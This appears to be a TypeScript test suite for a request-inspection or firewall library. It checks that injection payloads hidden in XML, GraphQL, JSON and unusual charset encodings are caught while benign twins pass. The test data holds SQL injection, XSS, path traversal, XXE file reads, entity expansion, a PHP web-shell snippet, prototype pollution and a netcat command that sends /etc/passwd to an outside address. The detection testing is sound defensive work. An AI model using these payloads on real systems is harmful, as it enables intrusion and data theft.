import type { NormalizedRequest } from '../src/adapter.ts';
import type { CheckId } from '../src/detectors/taxonomy.ts';
import type { InputLocation } from '../src/input.ts';
import { judgeRequest } from './judge-request.ts';

const bodyOf = (type: string, content: string | Uint8Array): Partial<NormalizedRequest> => ({
  headers: [['content-type', type]],
  body: { kind: 'bytes', bytes: typeof content === 'string' ? Buffer.from(content) : content },
});

/** A body with an attack, what finds it, where, and the same body without the attack. */
type Case = readonly [
  title: string,
  type: string,
  check: CheckId,
  at: InputLocation,
  attack: string | Uint8Array,
  benign: string | Uint8Array,
];

const soap = (value: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://example.com/orders">
  <!-- customer's own note -->
  <soap:Header><m:Trace id="8c0f--12"/></soap:Header>
  <soap:Body><m:Find><m:name>${value}</m:name><m:name>second</m:name></m:Find></soap:Body>
</soap:Envelope>`;
const xml = (name: string): InputLocation => ({ source: 'xml-value', name });
const markup = (name: string): InputLocation => ({ source: 'xml-markup', name });
const xmlCases: readonly Case[] = [
  [
    'text of an element',
    'application/soap+xml; charset=utf-8',
    'sqli',
    xml('/soap:Envelope/soap:Body/m:Find/m:name'),
    soap("x' OR '1'='1"),
    soap("Sean O'Neil &amp; sons, union representative; select &quot;any&quot;"),
  ],
  [
    'text written as entities',
    'text/xml',
    'xss',
    xml('/order/note'),
    '<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>',
    '<order><note>a &lt; b &amp;&amp; c &gt; d</note></order>',
  ],
  [
    'text split by CDATA',
    'application/xml',
    'sqli',
    xml('/q'),
    "<q>1' UN<![CDATA[ION SELECT password FROM us]]>ers--</q>",
    '<q>select <![CDATA[a <b>union</b>]]> of users</q>',
  ],
  [
    'text split by children',
    'application/xml',
    'sqli',
    xml('/q'),
    "<q>1' UN<b>ION SELECT password FR</b>OM users--</q>",
    "<q>O'Neil <b>and</b> sons</q>",
  ],
  [
    'an attribute',
    'application/vnd.shop+xml',
    'traversal',
    xml('/order/item[2]/@file'),
    '<order><item file="a.png"/><item file="..&#47;../../etc/passwd"/></order>',
    '<order><item file="a.png"/><item file="img/b.png"/></order>',
  ],
  [
    'a comment',
    'application/xml',
    'command',
    xml('/a/comment()'),
    '<a><!--; cat /etc/passwd | nc 203.0.113.9 80--></a>',
    "<a><!-- don't; it's -- no, it is fine --></a>",
  ],
  [
    'a processing instruction',
    'application/xml',
    'code',
    xml('/a/processing-instruction()'),
    '<a><?php system($_GET["c"]); ?></a>',
    '<?mso-application progid="Excel.Sheet"?><a>x</a>',
  ],
  [
    'a name',
    'application/xml',
    'prototype-pollution',
    { source: 'xml-name', name: '/a/__proto__' },
    '<a><__proto__><admin>1</admin></__proto__></a>',
    '<a><proto><constructor>1</constructor></proto></a>',
  ],
  [
    'an external entity',
    'application/xml',
    'xxe',
    markup('/!DOCTYPE'),
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><p>x</p></html>',
  ],
  [
    'entities that expand a thousandfold',
    'text/xml',
    'xxe',
    markup('/!DOCTYPE'),
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
    '<!DOCTYPE l><l>ha &amp; ha</l>',
  ],
  [
    'an inclusion',
    'application/xml',
    'xxe',
    markup('/a/xi:include'),
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></a>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><included href="a.xml"/></a>',
  ],
  [
    'a picture that runs script',
    'image/svg+xml',
    'xss',
    markup('/svg'),
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0L10 10z" style="fill:none"/></svg>',
  ],
  ['a document cut short', 'application/xml', 'sqli', xml('/order/q'), "<order><q>x' OR '1'='1", "<order><q>O'Neil"],
  [
    'XML that is called text',
    'text/plain',
    'sqli',
    xml('/q'),
    "<q>1' UN<![CDATA[ION SELECT password FROM us]]>ers--</q>",
    '<q>it is <![CDATA[<fine>]]></q>',
  ],
];

describe('an attack in XML', () => {
  it.each(xmlCases)('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
    await judgeBoth(row);
  });
});

async function judgeBoth([, type, check, at, attack, benign]: Case): Promise<void> {
  const { findings, denied } = await judgeRequest({ SECURITY_CHECKS: { truncated: 'off' } }, bodyOf(type, attack));
  expect(findings.map(({ check, input }) => ({ check, input }))).toEqual([{ check, input: at }]);
  expect(denied).toBe(true);
  expect(await judgeRequest({}, bodyOf(type, benign))).toEqual({ denied: false, findings: [] });
}

const graphql = (name: string): InputLocation => ({ source: 'graphql-value', name });
const introspection = `
  query IntrospectionQuery {
    __schema {
      queryType { name } mutationType { name } subscriptionType { name }
      types { ...FullType }
      directives { name description locations args { ...InputValue } }
    }
  }
  fragment FullType on __Type {
    kind name description
    fields(includeDeprecated: true) { name args { ...InputValue } type { ...TypeRef } isDeprecated deprecationReason }
    inputFields { ...InputValue } interfaces { ...TypeRef }
    enumValues(includeDeprecated: true) { name } possibleTypes { ...TypeRef }
  }
  fragment InputValue on __InputValue { name description type { ...TypeRef } defaultValue }
  fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name } } }`;
const shop = `# the customer's own orders; newest -- first
query Orders($id: ID!, $order: [Sort!] = [{by: DATE, dir: DESC}]) {
  select: orders(where: {and: [{id: {eq: $id}}, {or: [{name: {like: "O'Neil"}}]}]}, orderBy: $order, limit: 10) {
    union delete update from(table: "a or b") { exec process(env: "x") { constructor } } ... on Order @include(if: true) { id }
  }
}`;
const graphqlCases: readonly Case[] = [
  [
    'a string of a document',
    'application/graphql',
    'sqli',
    graphql('/user/name'),
    "{ user(name: \"x' OR '1'='1\") { id } }",
    shop,
  ],
  [
    'a block string with charset',
    'application/graphql; charset=utf-8',
    'xss',
    graphql('/post/input/html'),
    'mutation { post(input: {html: """<script>alert(1)</script>"""}) { id } }',
    introspection,
  ],
  [
    'an escaped string of the document in JSON',
    'application/json',
    'traversal',
    graphql('/query/file/path'),
    JSON.stringify({ query: '{ file(path: "..\\u002f../../etc/passwd") }' }),
    JSON.stringify({ query: shop, operationName: 'Orders', variables: { id: 'a-7' } }),
  ],
  [
    'a variable',
    'application/json',
    'sqli',
    { source: 'json-value', name: '/variables/name' },
    JSON.stringify({
      query: 'query F($name: String) { user(name: $name) { id } }',
      variables: { name: "x' OR '1'='1" },
    }),
    JSON.stringify({ query: introspection, variables: null }),
  ],
  [
    'a batch',
    'application/graphql+json',
    'command',
    graphql('/1/query/ping/host'),
    JSON.stringify([{ query: shop }, { query: '{ ping(host: "; cat /etc/passwd | nc 203.0.113.9 80") }' }]),
    JSON.stringify([{ query: shop }, { query: introspection }]),
  ],
  [
    'a name',
    'application/json',
    'prototype-pollution',
    { source: 'graphql-name', name: '/query/set/input/__proto__' },
    JSON.stringify({ query: 'mutation { set(input: {__proto__: {admin: true}}) }' }),
    JSON.stringify({ query: '{ __typename set(input: {proto: true}) }' }),
  ],
  [
    'a comment',
    'application/graphql',
    'xss',
    graphql('/a/#'),
    '{ a # <script>alert(1)</script>\n}',
    '{ a # <- the script tag is not here\n}',
  ],
  [
    'a document that ends too early',
    'application/graphql',
    'sqli',
    graphql('/user/name'),
    "{ user(name: \"x' OR '1'='1\") {",
    '{ user(name: "Neil") {',
  ],
  [
    'what is no document',
    'application/json',
    'sqli',
    { source: 'json-value', name: '/query' },
    JSON.stringify({ query: "{a}' UNION SELECT password FROM users--" }),
    JSON.stringify({ query: 'select shoes' }),
  ],
];

describe('an attack in GraphQL', () => {
  it.each(graphqlCases)('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
    await judgeBoth(row);
  });

  const ofQuery = (query: string): Partial<NormalizedRequest> => ({ method: 'GET', query: [['query', query]] });

  it('in a query parameter is found and named; its benign twins pass', async () => {
    const { findings } = await judgeRequest({}, ofQuery("{ user(name: \"x' OR '1'='1\") { id } }"));
    expect(findings.map(({ input }) => input)).toEqual([graphql('query/user/name')]);
    for (const benign of [shop, introspection, '{ me { id } }', 'query optimisation', "subscription O'Neil"]) {
      expect(await judgeRequest({}, ofQuery(benign))).toEqual({ denied: false, findings: [] });
    }
  });

  it('is no hiding place: what is no document is judged as it stands', async () => {
    const { findings } = await judgeRequest({}, ofQuery("query{a}' UNION SELECT password FROM users--"));
    expect(findings.map(({ check, input }) => ({ check, input }))).toEqual([
      { check: 'sqli', input: { source: 'query-value', name: 'query' } },
    ]);
  });
});

const value = (name: string): InputLocation => ({ source: 'json-value', name });
const jsonCases: readonly Case[] = [
  ...['application/x-ndjson', 'application/jsonl', 'application/json-seq', 'application/json', 'text/plain'].map(
    (type): Case => [
      'a line of JSON',
      type,
      'sqli',
      value('/1/q'),
      '{"q":"a"}\n{"q":"x\' OR \'1\'=\'1"}\n',
      '{"q":"O\'Neil"}\n{"q":"select a union -- or none"}\n',
    ],
  ),
  ...['application/problem+json', 'application/vnd.api+json; charset=utf-8', 'text/json', 'application/json'].map(
    (type): Case => ['a value', type, 'sqli', value('/q'), '\ufeff{"q":"x\' OR \'1\'=\'1"}', '\ufeff{"q":"O\'Neil"}'],
  ),
  [
    'a value whose key comes again',
    'application/json',
    'sqli',
    value('/q'),
    '{"q":"x\' OR \'1\'=\'1","q":"harmless"}',
    '{"q":"O\'Neil","q":"harmless"}',
  ],
];

describe('an attack in JSON', () => {
  it.each(jsonCases)('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
    await judgeBoth(row);
  });
});

const swapped = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
const wide = (text: string): Buffer => Buffer.concat([...text].map((one) => Buffer.from([0, 0, 0, one.charCodeAt(0)])));
const encodings: readonly (readonly [string, parameter: string, (text: string) => Uint8Array])[] = [
  ['UTF-16LE', '', (text) => Buffer.from(text, 'utf16le')],
  ['UTF-16BE', '', swapped],
  ['UTF-16LE with a mark', '', (text) => Buffer.from(`\ufeff${text}`, 'utf16le')],
  ['UTF-16BE with a mark', '', (text) => swapped(`\ufeff${text}`)],
  ['UTF-16 by name', '; charset=utf-16', swapped],
  ['UTF-32', '', wide],
  ['UTF-8 with a mark', '', (text) => Buffer.from(`\ufeff${text}`)],
  ['windows-1252', '; charset=windows-1252', (text) => Buffer.from(text.replace('ü', '\x80'), 'latin1')],
  ['Latin-1 without a name', '', (text) => Buffer.from(text, 'latin1')],
  [
    'UTF-7',
    '; charset=utf-7',
    (text) =>
      Buffer.from(text.replace(/[<>"'ü]/g, (one) => `+${swapped(one).toString('base64').replaceAll('=', '')}-`)),
  ],
];
const kinds: readonly (readonly [string, string, InputLocation, (text: string) => string])[] = [
  ['JSON', 'application/json', value('/q'), (text) => JSON.stringify({ q: text })],
  ['XML', 'application/xml', xml('/a/q'), (text) => `<a><q>${text}</q></a>`],
  [
    'a form',
    'application/x-www-form-urlencoded',
    { source: 'form-value', name: 'q' },
    (text) => `q=${text.replaceAll(' ', '%20')}`,
  ],
];
const encodedCases = encodings.flatMap(([encoding, parameter, encode]) =>
  kinds.map(([kind, type, at, write]): Case => {
    const row = (text: string): Uint8Array => encode(write(text));
    return [`${kind} in ${encoding}`, type + parameter, 'sqli', at, row("ü' OR '1'='1"), row("Jürgen O'Neil")];
  }),
);
const overlong = (text: string): Uint8Array =>
  Buffer.from(Buffer.from(text).toString('latin1').replaceAll("'", '\xc0\xa7').replaceAll('<', '\xc0\xbc'), 'latin1');

describe('an attack in another charset', () => {
  it.each(encodedCases)('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
    await judgeBoth(row);
  });

  it.each<Case>(
    kinds.map(([kind, type, at, write]) => {
      const row = (text: string): Uint8Array => overlong(write(text));
      return [
        `${kind} in overlong UTF-8`,
        type,
        'sqli',
        at,
        row("x' OR '1'='1"),
        Buffer.from(write('Jürgen À la carte')),
      ];
    }),
  )('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
    await judgeBoth(row);
  });

  it.each([
    ['Chinese', '{"q":"你好，世界。今天天气很好，我们去公园吧"}'],
    ['Cyrillic', '{"q":"Привет, мир; или нет -- как знать"}'],
    ['Greek', '{"q":"Καλημέρα κόσμε"}'],
  ])('is none in honest UTF-16: %s', async (_script, text) => {
    for (const bytes of [Buffer.from(`\ufeff${text}`, 'utf16le'), swapped(text)]) {
      expect(await judgeRequest({}, bodyOf('application/json', bytes))).toEqual({ denied: false, findings: [] });
    }
  });

  it('is found in UTF-8 that pretends to be UTF-16', async () => {
    const form = Buffer.concat([
      Buffer.from("q=ü1'/*ü*/||/*ü*/'1'='1&z="),
      Buffer.from('abcabc'.repeat(40), 'utf16le'),
    ]);
    const { findings } = await judgeRequest({}, bodyOf('application/x-www-form-urlencoded; charset=utf-16', form));
    expect(findings.map(({ check, input }) => ({ check, input }))).toEqual([
      { check: 'sqli', input: { source: 'form-value', name: 'q' } },
    ]);
  });

  it('as XML whose declaration names UTF-7 is found', async () => {
    const sent = (text: string) => `<?xml version="1.0" encoding="utf-7"?><a>${text}</a>`;
    const type = 'application/xml';
    await judgeBoth(['', type, 'sqli', xml('/a'), sent('x+ACc- OR +ACc-1+ACc-=+ACc-1'), sent('2 +- 2')]);
  });
});

describe('an attack beside a pretended content encoding', () => {
  it.each<[string, string, Uint8Array, Uint8Array]>([
    ['text', 'application/json', Buffer.from('{"q":"x\' OR \'1\'=\'1"}'), Buffer.from('{"q":"O\'Neil"}')],
    [
      'a form behind an archive',
      'application/x-www-form-urlencoded',
      Buffer.from('\x1f\x8b\x08\x01\x02\xff&q=x%27 OR %271%27=%271&z=1', 'latin1'),
      Buffer.from('\x1f\x8b\x08\x01\x02\xff&q=Sean O%27Neil&z=1', 'latin1'),
    ],
  ])('is found in what was sent as well: %s', async (_title, type, attack, benign) => {
    const harmless = Buffer.from('{"q":"1"}');
    const sent = (bytes: Uint8Array): Partial<NormalizedRequest> => ({
      ...bodyOf(type, harmless),
      body: { kind: 'bytes', bytes: harmless, sent: bytes },
    });
    expect((await judgeRequest({}, sent(attack))).findings.map(({ check }) => check)).toEqual(['sqli']);
    expect(await judgeRequest({}, sent(benign))).toEqual({ denied: false, findings: [] });
  });

  it('is told where it may stand in what cannot be read', async () => {
    const body = {
      kind: 'truncated',
      bytes: Buffer.from([0xff, 2, 3]),
      totalBytes: null,
      limit: 'content-encoding',
    } as const;
    const { findings } = await judgeRequest({}, { headers: [['content-type', 'image/png']], body });
    expect(findings.map(({ check, rule, input }) => ({ check, rule, input }))).toEqual([
      { check: 'truncated', rule: 'content-encoding', input: null },
    ]);
  });
});

/** Bodies of known formats, with what looks like an attack to who reads them as a whole. */
const honest: readonly (readonly [type: string, body: string])[] = [
  [
    'application/atom+xml',
    '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>O\'Reilly & Co -- news</title><entry><content type="html"><![CDATA[<p>He said "select one or two" &amp; left; it\'s fine.</p>]]></content><link href="http://example.com/a?b=1&amp;c=2"/></entry></feed>',
  ],
  [
    'application/xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion><dependencies><dependency><groupId>org.springframework</groupId><version>[1.0,2.0)</version></dependency></dependencies></project>',
  ],
  [
    'text/xml',
    '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a75adf55" Version="2.0"><ds:X509Certificate xmlns:ds="http://www.w3.org/2000/09/xmldsig#">MIICsDCCAhmgAwIBAgIJAK8dGINfkSTHMA0GCSqGSIb3DQEBBQUAMEUxCzAJBgNV\nBAYTAkFVMRMwEQYDVQQIEwpTb21lLVN0YXRl</ds:X509Certificate></saml:Assertion>',
  ],
  [
    'application/xml',
    '<methodCall><methodName>system.listMethods</methodName><params><param><value><string>a; b</string></value></param></params></methodCall>',
  ],
  [
    'application/xml',
    '<plist version="1.0"><dict><key>CFBundle</key><string>com.example</string><key>Path</key><string>/usr/share/app</string></dict></plist>',
  ],
  [
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><style>.a{fill:#fff}</style><defs><g id="x"/></defs><use xlink:href="#x"/><animate attributeName="x" from="0" to="10"/></svg>',
  ],
  [
    'application/json',
    JSON.stringify({
      query: 'query { products(filter: "price>10 AND tag:\'summer\'", sort: "title asc") { edges { node { id } } } }',
    }),
  ],
  [
    'application/json',
    JSON.stringify({ query: 'mutation { login(email: "o\'neil@example.com", password: "p@ss; w0rd--") { token } }' }),
  ],
  [
    'application/json',
    JSON.stringify({
      query: 'mutation M($i: [In!]!) { bulk(items: $i) @rate(limit: 3) { ok } }',
      variables: { i: [{ name: 'x' }] },
    }),
  ],
  ['application/x-ndjson', '{"index":{"_index":"a"}}\n{"q":"it\'s","t":"select"}\n'],
];

describe('an honest body', () => {
  it.each(honest)('of %s passes: %s', async (type, body) => {
    expect(await judgeRequest({}, bodyOf(type, body))).toEqual({ denied: false, findings: [] });
  });
});
